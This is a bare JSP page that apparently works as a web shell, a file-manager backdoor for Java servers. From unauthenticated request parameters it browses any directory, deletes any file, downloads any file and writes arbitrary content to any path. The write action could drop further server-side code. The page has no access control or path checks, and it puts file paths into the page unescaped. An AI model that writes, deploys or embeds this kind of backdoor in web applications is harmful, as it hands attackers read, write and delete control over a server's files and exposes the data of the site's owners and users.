<%@ page import="java.io.*,java.util.*,java.text.*" pageEncoding="UTF-8" %>
<%!
    String fmt(long t) { return new SimpleDateFormat("yyyy-MM-dd HH:mm").format(new Date(t)); }
%>
<%
    String dir = request.getParameter("dir");
    if (dir == null) dir = application.getRealPath("/");
    String act = request.getParameter("act");
    File cur = new File(dir);
    if ("del".equals(act)) {
        new File(request.getParameter("file")).delete();
    } else if ("down".equals(act)) {
        File df = new File(request.getParameter("file"));
        response.setContentType("application/octet-stream");
        response.setHeader("Content-Disposition", "attachment; filename=" + df.getName());
        FileInputStream fi = new FileInputStream(df);
        OutputStream os = response.getOutputStream();
        byte[] b = new byte[4096]; int n;
        while ((n = fi.read(b)) > 0) os.write(b, 0, n);
        fi.close(); os.flush();
        return;
    } else if ("save".equals(act)) {
        Writer w = new OutputStreamWriter(new FileOutputStream(new File(cur, request.getParameter("name"))), "UTF-8");
        w.write(request.getParameter("content"));
        w.close();
    }
    out.println("<h3>" + cur.getAbsolutePath() + "</h3><table>");
    File[] list = cur.listFiles();
    if (list != null) for (File x : list) {
        out.println("<tr><td><a href='?dir=" + x.getAbsolutePath() + "'>" + x.getName() + "</a></td><td>" + x.length() + "</td><td>" + fmt(x.lastModified()) +
            "</td><td><a href='?act=del&file=" + x.getAbsolutePath() + "'>del</a> <a href='?act=down&file=" + x.getAbsolutePath() + "'>down</a></td></tr>");
    }
    out.println("</table>");
%>
<form method="post"><input type="hidden" name="act" value="save"><input type="hidden" name="dir" value="<%=cur.getAbsolutePath()%>">name <input name="name"><br><textarea name="content" cols="80" rows="20"></textarea><input type="submit"></form>
